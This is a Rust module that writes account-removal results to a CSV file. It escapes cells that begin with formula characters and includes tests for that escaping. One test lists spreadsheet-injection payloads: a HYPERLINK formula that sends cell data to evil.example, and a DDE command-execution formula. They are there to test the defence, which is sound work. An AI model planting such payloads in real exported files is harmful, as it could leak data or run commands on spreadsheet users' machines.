//! The results as a CSV file (RFC 4180), safe to open in a spreadsheet.

use super::row::RowOutcome;
use super::time::iso8601_utc;

/// The header line of the export.
pub const COLUMNS: [&str; 6] = ["row", "user", "outcome", "http_status", "message", "time"];

/// Every row as CSV: `row,user,outcome,http_status,message,time`, CRLF line ends, `time` in
/// ISO-8601 UTC. Starts with a UTF-8 byte-order mark so that Excel reads accented names right.
/// Text that a spreadsheet would run as a formula is neutralised (see [`neutralise`]).
pub fn export_csv(rows: &[RowOutcome]) -> String {
    let mut out = String::from("\u{feff}");
    out.push_str(&COLUMNS.join(","));
    out.push_str("\r\n");
    for r in rows {
        let cells = [
            r.row().to_string(),
            cell(r.user()),
            cell(r.label()),
            r.http_status().map(|s| s.to_string()).unwrap_or_default(),
            cell(&r.message()),
            r.at_ms().and_then(iso8601_utc).unwrap_or_default(),
        ];
        out.push_str(&cells.join(","));
        out.push_str("\r\n");
    }
    out
}

/// A text cell: neutralised, then quoted if needed.
fn cell(text: &str) -> String {
    quote(&neutralise(text))
}

/// Prefixes `'` to text that starts, after any leading whitespace, with `=`, `+`, `-` or `@`,
/// or that starts with a tab or carriage return, so spreadsheets show it instead of running it.
pub fn neutralise(text: &str) -> String {
    let starts_with_control = text.starts_with(['\t', '\r']);
    let first_visible = text.trim_start().chars().next();
    if starts_with_control || matches!(first_visible, Some('=' | '+' | '-' | '@')) {
        format!("'{text}")
    } else {
        text.to_string()
    }
}

/// Undoes [`neutralise`]: the text a cell held before it was exported. (Text that itself began
/// with `'` followed by a formula character cannot be told from neutralised text; it loses the `'`.)
pub fn restore(cell: &str) -> String {
    match cell.strip_prefix('\'') {
        Some(rest) if neutralise(rest) != rest => rest.to_string(),
        _ => cell.to_string(),
    }
}

/// RFC 4180: a field with a comma, quote, CR or LF is quoted, its quotes doubled; so is one
/// with a space or tab at either end, which readers (this app's among them) trim otherwise.
pub fn quote(text: &str) -> String {
    let padded = text.starts_with([' ', '\t']) || text.ends_with([' ', '\t']);
    if padded || text.contains([',', '"', '\r', '\n']) {
        format!("\"{}\"", text.replace('"', "\"\""))
    } else {
        text.to_string()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::results::row::{rows, SkipReason, Skipped};
    use crate::run::{Outcome, UserResult};

    fn result(
        row: usize,
        user: &str,
        outcome: Outcome,
        status: Option<u16>,
        message: &str,
    ) -> UserResult {
        UserResult {
            row,
            user: user.into(),
            outcome,
            http_status: status,
            message: message.into(),
            attempts: 1,
            at_ms: 1_700_000_000_000.0,
        }
    }

    /// Parses the export back with the `csv` crate, as a spreadsheet would read it.
    fn read_back(text: &str) -> Vec<Vec<String>> {
        let body = text.strip_prefix('\u{feff}').expect("starts with a BOM");
        csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(body.as_bytes())
            .records()
            .map(|r| r.unwrap().iter().map(str::to_string).collect())
            .collect()
    }

    #[test]
    fn every_outcome_kind_is_exported_with_its_columns() {
        let all = rows(
            [
                result(2, "u-removed", Outcome::Removed, Some(200), "removed"),
                result(
                    3,
                    "u-missing",
                    Outcome::NotFound,
                    Some(404),
                    "User not found",
                ),
                result(4, "u-scim", Outcome::NotAllowed, Some(405), "SCIM-managed"),
                result(
                    5,
                    "u-enabled",
                    Outcome::Conflict,
                    Some(409),
                    "still enabled",
                ),
                result(
                    6,
                    "u-failed",
                    Outcome::Failed,
                    Some(500),
                    "failed after 5 attempts",
                ),
                result(
                    7,
                    "u-later",
                    Outcome::NotStarted,
                    None,
                    "not started: the run was cancelled",
                ),
            ],
            [
                Skipped {
                    row: 8,
                    value: "u-removed".into(),
                    reason: SkipReason::Duplicate { of_row: 2 },
                },
                Skipped {
                    row: 1,
                    value: "User Login".into(),
                    reason: SkipReason::Header,
                },
                Skipped {
                    row: 9,
                    value: "".into(),
                    reason: SkipReason::Blank,
                },
                Skipped {
                    row: 10,
                    value: "x y".into(),
                    reason: SkipReason::Invalid("contains a space".into()),
                },
                Skipped {
                    row: 11,
                    value: "admin".into(),
                    reason: SkipReason::ExcludedSelf,
                },
                Skipped {
                    row: 12,
                    value: "svc-backup".into(),
                    reason: SkipReason::Protected("svc-*".into()),
                },
            ],
        );
        let table = read_back(&export_csv(&all));
        assert_eq!(table[0], COLUMNS);
        assert_eq!(table.len(), 13, "a header and one line per row");
        assert_eq!(
            table[1],
            ["1", "User Login", "skipped", "", "header row", ""]
        );
        assert_eq!(
            table[2],
            [
                "2",
                "u-removed",
                "removed",
                "200",
                "removed",
                "2023-11-14T22:13:20Z"
            ]
        );
        assert_eq!(table[3][2], "not found");
        assert_eq!(table[4][2], "not allowed");
        assert_eq!(table[5][2], "still enabled or pending deletion");
        assert_eq!(table[6][2..5], ["failed", "500", "failed after 5 attempts"]);
        assert_eq!(table[7][2..4], ["not started", ""]);
        assert_eq!(table[8][4], "duplicate of row 2");
        assert_eq!(table[10][4], "invalid: contains a space");
        assert_eq!(table[11][4], "your own account: never removed");
        assert_eq!(
            table[12][4],
            "protected account (matches svc-*): never removed"
        );
        let rows_out: Vec<&str> = table[1..].iter().map(|r| r[0].as_str()).collect();
        assert_eq!(
            rows_out,
            ["1", "2", "3", "4", "5", "6", "7", "8", "9", "10", "11", "12"]
        );
    }

    #[test]
    fn formula_payloads_are_neutralised() {
        let payloads = [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "+1",
            "-2",
            "@SUM(A1:A9)",
            "\t=1+1",
            "\r=1+1",
            "  =cmd|' /C calc'!A0",
            "\u{a0}@x",
        ];
        for p in payloads {
            assert_eq!(neutralise(p), format!("'{p}"), "{p:?}");
        }
        for harmless in ["jdoe@example.com", "a=b", "", " plain", "x-1", "'quoted"] {
            assert_eq!(neutralise(harmless), harmless);
            assert_eq!(restore(harmless), harmless);
        }
        for p in payloads {
            assert_eq!(restore(&neutralise(p)), p);
        }
        let all = rows(
            payloads
                .iter()
                .enumerate()
                .map(|(i, p)| result(i + 2, p, Outcome::Failed, None, p)),
            [],
        );
        let table = read_back(&export_csv(&all));
        for (line, p) in table[1..].iter().zip(payloads) {
            assert_eq!(line[1], format!("'{p}"));
            assert_eq!(line[4], format!("'{p}"));
        }
    }

    #[test]
    fn quotes_commas_and_line_breaks_are_quoted_and_read_back_exactly() {
        let message = "Error: \"x\", then\r\nanother line\nand more";
        let all = rows(
            [result(
                2,
                "o'brien,pat",
                Outcome::Failed,
                Some(400),
                message,
            )],
            [],
        );
        let text = export_csv(&all);
        assert!(text.contains("\"o'brien,pat\""), "{text}");
        let table = read_back(&text);
        assert_eq!(table[1][1], "o'brien,pat");
        assert_eq!(table[1][4], message);
        assert_eq!(quote("plain"), "plain");
        assert_eq!(quote("in the middle"), "in the middle");
        assert_eq!(quote(" padded\t"), "\" padded\t\"");
        assert_eq!(quote("say \"hi\""), "\"say \"\"hi\"\"\"");
    }
}
